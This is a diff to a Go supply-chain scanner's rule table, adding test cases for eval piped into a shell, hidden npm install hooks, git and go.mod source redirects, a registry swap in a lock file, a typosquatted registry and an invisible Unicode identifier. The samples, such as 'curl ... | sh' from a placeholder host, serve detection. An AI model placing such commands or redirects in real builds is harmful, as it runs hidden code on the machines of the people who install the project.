@@ -58,6 +58,13 @@ var rules = []Rule{
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
 	}},
+	{"indirect-run", KindDecodeExec, High, "pipes eval's output into a shell, or data into eval",
+		"the command that runs is assembled at run time from variables (as the xz backdoor's build script did), so the diff does not show it", []Case{
+			{"m4/x.m4", "AC_CONFIG_COMMANDS([x], [eval $gl_config | $SHELL 2>/dev/null])", 0, false},
+			{"configure.ac", "  eval x=\\\"\\$y\\\" | /bin/sh 2>/dev/null", 0, false},
+			{"x.sh", "cfg='sed r $f | eval $map | $dec -d'", 0, false},
+			{"x.sh", "eval \"$(ssh-agent -s)\"", 0, true},
+		}},
 	{"vendor-installer", KindDownload, Medium, "runs a vendor's installer fetched from the vendor's own host",
 		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
 			{"Dockerfile", "FROM debian:12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", 0, false},
@@ -112,7 +119,10 @@ var rules = []Rule{
 		"npm runs it at install on the runner, before any test, and what it runs is not in the diff", []Case{
 			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.invalid/i | sh\"\n  }\n}", 3, false},
 			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"start /B node preinstall.js & node preinstall.js\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"nohup node sync.js >/dev/null 2>&1\"\n  }\n}", 3, false},
 			{"package.json", "{\n  \"scripts\": {\n    \"prepare\": \"husky install\"\n  }\n}", 3, true},
+			{"package.json", "{\n  \"scripts\": {\n    \"install\": \"prebuild-install -r napi || node-gyp rebuild && echo ok\"\n  }\n}", 3, true},
 		}},
 	{"npm-lifecycle", KindScript, Medium, "npm lifecycle script: runs on npm install",
 		"npm runs it at install on the runner, before any test: read what it runs", []Case{
@@ -194,6 +204,9 @@ var rules = []Rule{
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"https://x.invalid/lodash-4.17.21.tgz\"\n  }\n}", 3, false},
 			{"requirements.txt", "requests @ https://x.invalid/requests-2.32.0.tar.gz", 0, false},
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\"\n  }\n}", 3, true},
+			// A hunk inside the block, its key not shown.
+			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n     \"eslint\": \"^8.56.0\",\n-    \"chalk\": \"^5.3.0\"\n+    \"chalk\": \"github:chalk-dev/chalk#v5.3.0\"\n", 4, false},
+			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n   \"license\": \"MIT\",\n-  \"homepage\": \"https://x.invalid\"\n+  \"homepage\": \"https://x.invalid/docs#readme\"\n", 4, true},
 		}},
 	{"registry-redirect", KindDependency, High, "points package installs at another registry or index",
 		"every package the build installs can then come from whoever runs that host (dependency confusion)", []Case{
@@ -201,17 +214,25 @@ var rules = []Rule{
 			{"x.sh", "pip install --extra-index-url https://pypi.x.invalid/simple app", 0, false},
 			{"pip.conf", "[global]\nindex-url = https://pypi.x.invalid/simple", 2, false},
 			{"x.sh", "pip install --extra-index-url https://download.pytorch.org/whl/cpu torch", 0, true},
+			{"x.sh", `git config --global url."https://mirror.x.invalid/github.com/".insteadOf "https://github.com/"`, 0, false},
+			{"Dockerfile", "FROM golang:1.23\nRUN git config --global url.https://git.x.invalid/.insteadOf https://github.com/", 2, false},
+			{"x.sh", `git config --global url."https://${TOKEN}@github.com/".insteadOf "https://github.com/"`, 0, true},
+			{"x.sh", `git config --global url."git@github.com:".insteadOf "https://github.com/"`, 0, true},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
 			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1 +1 @@\n-FROM node:20-slim\n+FROM nodesource/node:20-slim\n", 1, false},
 			{".gitmodules", "diff --git a/.gitmodules b/.gitmodules\n--- a/.gitmodules\n+++ b/.gitmodules\n@@ -1,2 +1,2 @@\n [submodule \"lib\"]\n-\turl = https://github.com/acme/lib.git\n+\turl = https://github.com/acme-mirror/lib.git\n", 2, false},
 			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1 +1 @@\n-FROM node:20-slim\n+FROM node:22-slim\n", 1, true},
+			{"go.mod", "module x\n\nreplace github.com/boltdb/bolt => github.com/bolt-go/bolt v1.3.1", 3, false},
+			{"package-lock.json", "diff --git a/package-lock.json b/package-lock.json\n--- a/package-lock.json\n+++ b/package-lock.json\n@@ -1,2 +1,2 @@\n     \"node_modules/ms\": {\n-      \"resolved\": \"https://registry.npmjs.org/ms/-/ms-2.1.3.tgz\",\n+      \"resolved\": \"https://npm.x.invalid/ms/-/ms-2.1.3.tgz\",\n", 2, false},
+			{"go.mod", "module x\n\nreplace k8s.io/api => ./staging/src/k8s.io/api", 3, true},
 		}},
 	{"lookalike-source", KindDependency, High, "names a look-alike of a well-known action, image or hook repository",
 		"a name one letter off a well-known one is how typosquatted code gets run", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actlons/checkout@v4", 4, false},
 			{"Dockerfile", "FROM pyth0n:3.12", 0, false},
+			{"yarn.lock", "lodash@^4.17.21:\n  version \"4.17.21\"\n  resolved \"https://registry.yarnpkg.co/lodash/-/lodash-4.17.21.tgz#679591c5\"", 3, false},
 		}},
 	{"gradle-distribution", KindBuildFile, High, "Gradle wrapper downloads Gradle from somewhere else",
 		"gradlew downloads and runs the distribution it names, on every build", []Case{
@@ -320,6 +341,8 @@ var rules = []Rule{
 			{"x.js", "const s = '\U000E0061\U000E0062\U000E0063'", 0, false},
 			{"x.js", "const p = 'x\ufe00\ufe01\ufe02\ufe03'", 0, false},
 			{"x.go", "if user\u200b == admin {", 0, false},
+			{"x.js", "const { timeout,\u3164 } = req.query", 0, false},
+			{"x.js", "const greeting = '안녕하세요'", 0, true},
 			{"x.js", "const ok = '👍🏽'", 0, true},
 		}},
 	{"hidden-text", KindHiddenUnicode, Medium, "invisible characters in the line", hiddenWhy, []Case{
